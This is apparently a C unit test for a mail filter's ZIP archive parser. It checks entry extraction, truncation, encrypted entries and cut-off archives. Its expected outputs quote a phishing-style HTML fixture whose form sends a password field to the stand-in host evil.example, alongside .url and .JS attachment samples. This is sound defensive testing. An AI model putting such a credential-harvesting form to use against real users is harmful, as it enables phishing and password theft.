/* SPDX-License-Identifier: BSD-2-Clause */
/* test_archive - entries come out of an archive, whatever its table says. */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "policy/base/file.h"
#include "policy/base/text.h"
#include "policy/mail/archive.h"

static const char *
told(struct arena *arena, const char *seed, size_t most)
{
	const char *path =
		arena_printf(arena, "%s/tests/fuzz/seeds/archive/%s", getenv("top_srcdir"), seed);
	struct text text = TEXT_IN(arena);
	struct archive archive = {.at = 0};
	struct archive_entry entry;
	struct archive_text inner;
	const char *why;
	char *bytes;

	assert_int_equal(file_read(arena, path, 65536, &bytes, &archive.length, &why), 0);
	archive.bytes = bytes;
	while (archive_next(arena, &archive, &entry)) {
		archive_unpack(arena, &archive, &entry, most, &inner);
		text_printf(&text, "%s%s%s=%.*s;", entry.name, entry.encrypted ? "!" : "",
			    inner.truncated ? "..." : "", (int)inner.length, inner.bytes);
	}
	return text_string(&text);
}

static void
entries_come_from_archive_and_table(void **state)
{
	struct arena *arena = arena_new();

	(void)state;
	assert_string_equal(told(arena, "page.zip", 1000),
			    "invoice.html=<form action=https://evil.example/><input "
			    "type=password></form>;readme.txt=hi;invoice.html=;readme.txt=;");
	assert_string_equal(told(arena, "page.zip", 5),
			    "invoice.html...=<form;readme.txt=hi;invoice.html=;readme.txt=;");
	assert_string_equal(told(arena, "streamed.zip", 1000),
			    "invoice.html=<form action=https://evil.example/><input "
			    "type=password></form>;readme.txt=hi;invoice.html=;readme.txt=;");
	assert_string_equal(told(arena, "stored.zip", 10),
			    "a/b.url...=[InternetS;run.JS=x();a/b.url=;run.JS=;");
	assert_string_equal(told(arena, "encrypted.zip", 1000), "secret.html!=;secret.html!=;");
	arena_free(arena);
}

static void
cut_archives_end(void **state)
{
	static const char *const cases[] = {
		"", "P", "PK", "PK\x03\x04", "PK\x03\x04PK\x01\x02", "PKPKPKPK"};
	struct arena *arena = arena_new();
	struct archive_entry entry;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct archive archive = {.bytes = cases[i], .length = strlen(cases[i])};

		assert_false(archive_next(arena, &archive, &entry));
	}
	arena_free(arena);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(entries_come_from_archive_and_table),
		cmocka_unit_test(cut_archives_end),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
